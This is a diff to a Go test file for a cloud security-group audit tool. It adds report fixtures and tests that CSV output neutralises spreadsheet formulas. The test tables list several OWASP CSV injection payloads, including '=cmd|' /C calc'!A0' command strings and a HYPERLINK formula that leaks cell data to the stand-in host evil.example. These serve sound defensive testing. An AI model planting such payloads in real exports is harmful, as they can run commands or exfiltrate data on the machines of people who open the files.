@@ -150,10 +150,20 @@ func reportFixture() *Report {
 			x.RuleID, x.PortRange, x.CIDR, x.Description = "sgr-0ee55ff66aa77bb8a", "80", "0.0.0.0/0", "http"
 			x.Reasons = []string{"ingress from the whole internet to a web port (80)"}
 		}),
+		f(StaleSource, Low, func(x *Finding) {
+			x.RuleID, x.PortRange, x.CIDR = "sg-0a1b2c3d4e5f60718:ingress:tcp:22:pl-0c0ffee1234567890", "22", "81.2.69.142/32"
+			x.PrefixList = &collector.PrefixListRef{ID: "pl-0c0ffee1234567890", Name: "office-ranges", Owner: "111111111111", EntryDescription: "Alice home until 2025-03-01"}
+			x.Reasons = []string{"the prefix list entry says until 2025-03-01, which has passed"}
+		}),
 		f(Unvetted, Info, func(x *Finding) {
 			x.RuleID, x.PortRange, x.CIDR, x.Description = "sgr-0aa11bb22cc33dd4b", "443", "203.0.113.99/32", "monitoring"
 			x.Reasons = []string{"no provider could answer for 203.0.113.99"}
 			x.Verdicts = []reputation.Verdict{md4, bl4}
+		}),
+		f(InvalidRule, Info, func(x *Finding) {
+			x.RuleID, x.PortRange, x.CIDR = "sgr-0aa11bb22cc33dd4c", "22", "10.0.0.300/32"
+			x.Invalid = &collector.Invalid{Field: collector.FieldCIDR, Text: "10.0.0.300/32", Reason: "not an IP prefix"}
+			x.Reasons = []string{"the rule could not be parsed, so it was not audited"}
 		}),
 	}
 
@@ -416,7 +426,7 @@ func TestWriteTableWidth(t *testing.T) {
 					}
 				}
 				if name == "fixture" {
-					for _, want := range []string{"CRITICAL: 2 findings", "INFO: 1 finding", "new", "INCOMPLETE", "ap-south-1"} {
+					for _, want := range []string{"CRITICAL: 2 findings", "INFO: 2 findings", "new", "INCOMPLETE", "ap-south-1"} {
 						if !strings.Contains(out, want) {
 							t.Errorf("table at width %d lacks %q:\n%s", width, want, out)
 						}
@@ -459,7 +469,7 @@ func TestWriteCSV(t *testing.T) {
 	for _, row := range rows[1:] {
 		descriptions[row[col["description"]]] = true
 		for i, cell := range row {
-			if i != col["port_range"] && cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
 				t.Errorf("cell %s = %q starts a formula", rows[0][i], cell)
 			}
 		}
@@ -492,17 +502,64 @@ func TestWriteCSVNoFormula(t *testing.T) {
 	for _, tt := range []struct{ in, want string }{
 		{"", ""},
 		{"office", "office"},
+		{"a=b", "a=b"},
+		{"10.0.0.0/8", "10.0.0.0/8"},
 		{"=1+1", "'=1+1"},
 		{"+1", "'+1"},
 		{"-2", "'-2"},
+		{"-1", "'-1"},
+		{"-5-3", "'-5-3"},
 		{"@SUM(A1)", "'@SUM(A1)"},
 		{"\tx", "'\tx"},
 		{"\rx", "'\rx"},
-		{"a=b", "a=b"},
+		{"\nx", "'\nx"},
+		// OWASP CSV injection payloads.
+		{"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
+		{"\n=cmd|' /C calc'!A0", "'\n=cmd|' /C calc'!A0"},
+		{" =cmd", "' =cmd"},
+		{"   +cmd", "'   +cmd"},
+		{"\t\t-cmd", "'\t\t-cmd"},
+		{"\x00=cmd", "'\x00=cmd"},
+		{"\u00a0@SUM(1+9)*cmd|' /C calc'!A0", "'\u00a0@SUM(1+9)*cmd|' /C calc'!A0"},
+		{"\u200b=1", "'\u200b=1"},
+		{"\ufeff=1", "'\ufeff=1"},
+		{`=HYPERLINK("http://evil.example?leak="&A1,"click")`, `'=HYPERLINK("http://evil.example?leak="&A1,"click")`},
+		{"@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"},
+		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
+		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
+		{"office =1", "office =1"},
 	} {
 		if got := noFormula(tt.in); got != tt.want {
 			t.Errorf("noFormula(%q) = %q, want %q", tt.in, got, tt.want)
 		}
+	}
+}
+
+// TestWriteCSVEveryColumnGuarded puts a formula into every text field of a finding and
+// checks that no cell of the CSV starts one.
+func TestWriteCSVEveryColumnGuarded(t *testing.T) {
+	for _, payload := range []string{"=1+1", "\n=cmd|' /C calc'!A0", " =cmd", "-5-3", "@x", "+1"} {
+		t.Run(payload, func(t *testing.T) {
+			f := Finding{
+				Kind: Kind(payload), Severity: Severity(payload),
+				RuleRef: RuleRef{Account: payload, Region: payload, GroupID: payload, GroupName: payload, RuleID: payload,
+					Direction: payload, Protocol: payload, PortRange: payload, CIDR: payload, Description: payload,
+					PrefixList: &collector.PrefixListRef{ID: payload, Name: payload, EntryDescription: payload},
+					Invalid:    &collector.Invalid{Field: collector.RuleField(payload), Text: payload, Reason: payload}},
+				Reasons:  []string{payload},
+				Verdicts: []reputation.Verdict{{Provider: payload, Status: reputation.Status(payload)}},
+				Change:   Change(payload),
+			}
+			rows, err := csv.NewReader(bytes.NewReader(renderFormat(t, "csv", WriterOptions{}, &Report{Findings: []Finding{f}}))).ReadAll()
+			if err != nil {
+				t.Fatal(err)
+			}
+			for i, cell := range rows[1] {
+				if c := strings.TrimLeftFunc(cell, func(r rune) bool { return unicode.IsSpace(r) || unicode.IsControl(r) }); c != "" && strings.ContainsRune("=+-@", rune(c[0])) {
+					t.Errorf("column %s = %q starts a formula", csvHeader[i], cell)
+				}
+			}
+		})
 	}
 }
 
